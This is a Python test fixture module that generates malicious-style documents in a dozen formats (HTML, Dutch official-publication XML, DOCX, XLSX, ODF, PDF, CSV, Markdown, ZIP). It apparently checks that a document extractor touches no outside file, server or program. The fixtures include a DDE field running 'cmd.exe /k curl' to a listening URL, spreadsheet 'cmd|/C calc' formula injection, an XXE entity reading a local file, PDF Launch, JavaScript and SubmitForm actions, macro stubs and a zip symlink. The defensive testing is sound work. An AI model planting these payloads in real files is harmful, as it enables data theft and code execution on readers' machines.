"""Documents that want to reach out of themselves, in every way that their format knows: to a file, to the network, to a program.

Each names the same bait, a file and an address of a server that is listening, and holds a table that can be read.
"""

from __future__ import annotations

import io
import stat
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from benchmarks.offices import ODF, RELATIONS, SHEET, pack
from tests.extract.pdf.files import FONT, LINE, pdf, stream
from tests.extract.word import cell, docx, row, run, table

ROW = ("Aantal zaken", "12")
HEAD = ("Indicator", "Norm 2020")
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


@dataclass(frozen=True, slots=True)
class Bait:
    """What a document may not touch."""

    path: str
    """A file outside the folder of the documents."""
    url: str
    """An address at which somebody is listening."""

    @property
    def file(self) -> str:
        """The file as an address."""
        return f"file://{self.path}"


def html(bait: Bait) -> bytes:
    """A page with everything that a browser would load."""
    table = "".join(f"<tr>{''.join(f'<td>{text}</td>' for text in cells)}</tr>" for cells in (HEAD, ROW))
    loads = "".join(
        f'<link rel="stylesheet" href="{to}"><script src="{to}"></script><img src="{to}" srcset="{to} 2x"><iframe src="{to}"></iframe>'
        f'<object data="{to}"></object><embed src="{to}"><video src="{to}" poster="{to}"></video><svg {XLINK}><image xlink:href="{to}"/>'
        f'<use href="{to}#a"/></svg><style>@import url("{to}"); td {{ background: url({to}) }}</style><a href="{to}" ping="{to}">x</a>'
        for to in (bait.file, bait.url)
    )
    head = f'<base href="{bait.url}"><meta http-equiv="refresh" content="0;url={bait.url}"><script>fetch("{bait.url}")</script>'
    return f"<html><head><title>Verslag 2020</title>{head}</head><body>{loads}<table>{table}</table></body></html>".encode()


def koop_xml(bait: Bait) -> bytes:
    """A publication with a stylesheet, parts and pictures elsewhere."""
    rows = "".join(
        f"<row>{''.join(f'<entry><al>{text}</al></entry>' for text in cells)}</row>" for cells in (HEAD, ROW)
    )
    outside = "".join(
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{to}" parse="text"/>'
        f'<plaatje><illustratie naam="{to}" {XLINK} xlink:href="{to}" xlink:actuate="onLoad"/></plaatje><extref doc="{to}">x</extref>'
        for to in (bait.file, bait.url)
    )
    return (
        f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{bait.url}"?><officiele-publicatie '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{bait.url}"><kamerstuk><stuk>'
        f"<algemeen><vrije-tekst><tekst><al>Tekst {outside}</al>{outside}<table><tgroup cols='2'><tbody>{rows}</tbody></tgroup></table>"
        "</tekst></vrije-tekst></algemeen></stuk></kamerstuk></officiele-publicatie>"
    ).encode()


def koop_dtd(bait: Bait) -> bytes:
    """A publication with a DTD elsewhere."""
    return koop_xml(bait).replace(
        b"<officiele", f'<!DOCTYPE officiele-publicatie SYSTEM "{bait.url}"><officiele'.encode(), 1
    )


def koop_entity(bait: Bait) -> bytes:
    """A publication with a file for an entity; it is refused."""
    doctype = f'<!DOCTYPE officiele-publicatie [<!ENTITY weg SYSTEM "{bait.file}">]><officiele'.encode()
    return koop_xml(bait).replace(b"<officiele", doctype, 1).replace(b"Tekst", b"&weg;", 1)


def word(bait: Bait) -> bytes:
    """A document with a template, pictures, objects, chunks, fields and macros elsewhere or inside."""
    kinds = ("attachedTemplate", "image", "oleObject", "aFChunk", "subDocument", "frame", "hyperlink")
    relations = "".join(
        f'<Relationship Id="u{number}{kind}" Type="{RELATIONS}/{kind}" Target="{to}" TargetMode="External"/>'
        for number, to in enumerate((bait.file, bait.url))
        for kind in kinds
    )
    fields = (
        f'INCLUDETEXT "{bait.path}"',
        f'INCLUDEPICTURE "{bait.url}" \\d',
        f'DDEAUTO c:\\\\cmd.exe "/k curl {bait.url}"',
        f'LINK Excel.Sheet "{bait.path}"',
    )
    simple = "".join(
        f'<w:p><w:fldSimple w:instr=" {field.replace(chr(34), "&quot;")} ">{run("x")}</w:fldSimple></w:p>'
        for field in fields
    )
    chunks = '<w:altChunk r:id="u0aFChunk"/><w:subDoc r:id="u1subDocument"/>'.replace(
        "r:id", f'xmlns:r="{RELATIONS}" r:id'
    )
    data = docx(
        simple + chunks + table(row(*map(cell, HEAD)), row(*map(cell, ROW))),
        settings=f'<w:attachedTemplate r:id="u1attachedTemplate" xmlns:r="{RELATIONS}"/>',
    )
    named = f'<Relationships xmlns="{PACKAGE}">{relations}</Relationships>'
    return _with_parts(data, {
        "word/_rels/document.xml.rels": lambda old: old.replace(b"</Relationships>", relations.encode() + b"</Relationships>"),
        "word/_rels/settings.xml.rels": lambda _: named.encode(),
        "word/vbaProject.bin": lambda _: b"\xd0\xcf\x11\xe0Sub AutoOpen()",
        "word/embeddings/oleObject1.bin": lambda _: b"\xd0\xcf\x11\xe0",
    })  # fmt: skip


def workbook(bait: Bait) -> bytes:
    """A workbook with formulas, links, connections and queries that lead elsewhere."""
    formulas = (
        f'WEBSERVICE("{bait.url}")',
        f"'[{bait.path}]Blad1'!A1",
        "cmd|'/C calc'!A0",
        f'HYPERLINK("{bait.url}")',
        f'IMAGE("{bait.url}")',
        "[1]Blad1!$B$2",
    )
    cells = "".join(
        f'<row r="{number}"><c r="A{number}" t="str"><f>{formula.replace(chr(34), "&quot;")}</f><v>Aantal {number}</v></c><c r="B{number}"><f>1+1</f><v>12</v></c></row>'
        for number, formula in enumerate(formulas, start=2)
    )
    head = '<row r="1"><c r="A1" t="inlineStr"><is><t>Indicator</t></is></c><c r="B1" t="inlineStr"><is><t>Norm 2020</t></is></c></row>'
    outside = "".join(
        f'<Relationship Id="x{number}" Type="{RELATIONS}/externalLinkPath" Target="{to}" TargetMode="External"/>'
        for number, to in enumerate((bait.file, bait.url))
    )
    link = f'<externalLink {SHEET} xmlns:r="{RELATIONS}"><externalBook r:id="x1"/><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    relation = '<Relationship Id="{0}" Type="' + RELATIONS + '/{1}" Target="{2}"/>'
    return pack({
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}">{relation.format("r", "officeDocument", "xl/workbook.xml")}</Relationships>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}">{relation.format("s1", "worksheet", "worksheets/sheet1.xml")}{relation.format("e1", "externalLink", "externalLinks/externalLink1.xml")}{relation.format("c1", "connections", "connections.xml")}</Relationships>',
        "xl/workbook.xml": f'<workbook {SHEET} xmlns:r="{RELATIONS}"><sheets><sheet name="Blad1" sheetId="1" r:id="s1"/></sheets><externalReferences><externalReference r:id="e1"/></externalReferences></workbook>',
        "xl/worksheets/sheet1.xml": f'<worksheet {SHEET} xmlns:r="{RELATIONS}"><sheetData>{head}{cells}</sheetData><drawing r:id="x0"/></worksheet>',
        "xl/worksheets/_rels/sheet1.xml.rels": f'<Relationships xmlns="{PACKAGE}">{outside}</Relationships>',
        "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="{PACKAGE}">{outside}</Relationships>',
        "xl/connections.xml": f'<connections {SHEET}><connection id="1" refreshOnLoad="1"><webPr url="{bait.url}"/></connection></connections>',
        "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0Sub Workbook_Open()",
    })  # fmt: skip


def _open_document(kind: str, body: str, bait: Bait) -> bytes:
    scripts = f'<office:scripts><office:script script:language="ooo:Basic" xmlns:script="urn:x" {XLINK} xlink:href="{bait.url}"/></office:scripts>'
    events = f'<script:event-listener xmlns:script="urn:x" script:event-name="dom:load" {XLINK} xlink:href="vnd.sun.star.script:x?language=Basic"/>'
    content = f'<office:document-content {ODF} {XLINK} xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0">{scripts}{events}<office:body>{body}</office:body></office:document-content>'
    macro = '<script:module xmlns:script="urn:x">Sub Main : Shell("calc") : End Sub</script:module>'
    return pack(
        {"mimetype": kind, "content.xml": content, "Basic/Standard/Module1.xml": macro, "Object 1/content.xml": content}
    )


def _open_table(cells: Mapping[tuple[int, int], str] | None = None) -> str:
    return "".join(
        "<table:table-row>" + "".join(
            f'<table:table-cell office:value-type="string" {(cells or {}).get((down, right), "")}><text:p>{text}</text:p></table:table-cell>'
            for right, text in enumerate(texts)
        ) + "</table:table-row>"
        for down, texts in enumerate((HEAD, ROW))
    )  # fmt: skip


def text_document(bait: Bait) -> bytes:
    """An odt with linked sections, pictures, objects and scripts."""
    linked = "".join(
        f'<text:section text:name="s"><text:section-source xlink:href="{to}"/><text:p>x</text:p></text:section>'
        f'<text:p><draw:frame><draw:image xlink:href="{to}" xlink:actuate="onLoad"/><draw:object xlink:href="{to}"/></draw:frame>'
        f'<text:database-display text:table-name="{to}"/><text:dde-connection text:connection-name="{to}"/></text:p>'
        for to in (bait.file, bait.url, f"../../../../..{bait.path}")
    )
    body = f"<office:text>{linked}<table:table>{_open_table()}</table:table></office:text>"
    return _open_document("application/vnd.oasis.opendocument.text", body, bait)


def open_sheet(bait: Bait) -> bytes:
    """An ods with linked tables, formulas and DDE."""
    formula = f'table:formula="of:=WEBSERVICE(&quot;{bait.url}&quot;)"'
    other = f"table:formula=\"of:=['{bait.file}'#$Blad1.A1]\""
    source = f'<table:table-source xlink:href="{bait.file}" xlink:actuate="onRequest"/><office:dde-source office:dde-application="soffice" office:dde-topic="{bait.path}" office:dde-item="a" office:automatic-update="true"/>'
    cells = {(1, 0): other, (1, 1): formula}
    body = f'<office:spreadsheet><table:table table:name="B">{source}{_open_table(cells)}</table:table></office:spreadsheet>'
    return _open_document("application/vnd.oasis.opendocument.spreadsheet", body, bait)


def paper(bait: Bait) -> bytes:
    """A PDF that launches, opens, runs, submits, attaches, and has its picture and its page in other files."""
    path, url = bait.path.encode(), bait.url.encode()
    actions = [
        b"<</S/Launch/F(%b)/NewWindow true>>" % path,
        b"<</S/URI/URI(%b)>>" % url,
        b"<</S/GoToR/F(%b)/D[0/Fit]>>" % path,
        b"<</S/JavaScript/JS(app.launchURL\\('%b'\\);this.submitForm\\('%b'\\))>>" % (url, url),
        b"<</S/SubmitForm/F<</FS/URL/F(%b)>>/Fields[]>>" % url,
        b"<</S/ImportData/F(%b)>>" % path,
    ]
    first = 12
    chain = b" ".join(b"%d 0 R" % (first + at) for at in range(len(actions)))
    catalog = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction %d 0 R/AA<</WC %d 0 R>>/Names<</EmbeddedFiles<</Names[(geheim.txt) 9 0 R]>>/JavaScript"
        b"<</Names[(a) %d 0 R]>>>>/AcroForm<</XFA 11 0 R/Fields[]>>/URI<</Base(%b)>>>>"
        % (first, first + 1, first + 3, url)
    )
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents[4 0 R 8 0 R]/AA<</O %d 0 R>>/Annots[6 0 R]"
        b"/Resources<</Font<</F1 5 0 R>>/XObject<</Im1 7 0 R>>>>>>" % first
    )
    outside = b"/F<</Type/Filespec/F(%b)>>" % path
    return pdf([
        catalog, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, stream(LINE + b"/Im1 Do\n"), FONT,
        b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(%b)/Next[%b]>>>>" % (url, chain),
        stream(b"", b"/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray" + outside),
        stream(b"", outside),
        b"<</Type/Filespec/F(geheim.txt)/EF<</F 10 0 R>>>>", stream(b"geheim", b"/Type/EmbeddedFile"),
        stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template href="%b"/></xdp:xdp>' % url), *actions,
    ])  # fmt: skip


def csv(bait: Bait) -> bytes:
    """A table with what a spreadsheet would run."""
    return f"Indicator;Norm 2020\nAantal zaken;12\n=WEBSERVICE(\"{bait.url}\");12\n=cmd|'/C calc'!A0;3\n@SUM(1);'{bait.path}'\n".encode()


def markdown(bait: Bait) -> bytes:
    """A text with pictures elsewhere."""
    return f"# Verslag 2020\n\n![x]({bait.url}) ![y]({bait.file})\n\n| Indicator | Norm 2020 |\n|---|---|\n| Aantal zaken | 12 |\n".encode()


def archive(bait: Bait) -> bytes:
    """A zip with links to a file outside it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as packed:
        packed.writestr("verpakt.html", html(bait) + b"<p>Ingepakt.</p>")
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        packed.writestr(link, bait.path)
    return buffer.getvalue()


def _with_parts(data: bytes, changes: Mapping[str, Callable[[bytes], bytes]]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as opened:
        parts = {name: opened.read(name) for name in opened.namelist()}
    return pack({**parts, **{name: change(parts.get(name, b"")) for name, change in changes.items()}})


DOCUMENTS: Mapping[str, Callable[[Bait], bytes]] = {
    "pagina.html": html,
    "stuk.xml": koop_xml,
    "stuk-dtd.xml": koop_dtd,
    "stuk-entiteit.xml": koop_entity,
    "brief.docx": word,
    "tabel.xlsx": workbook,
    "verslag.odt": text_document,
    "blad.ods": open_sheet,
    "druk.pdf": paper,
    "tabel.csv": csv,
    "tekst.md": markdown,
    "archief.zip": archive,
}
"""Each by its name."""
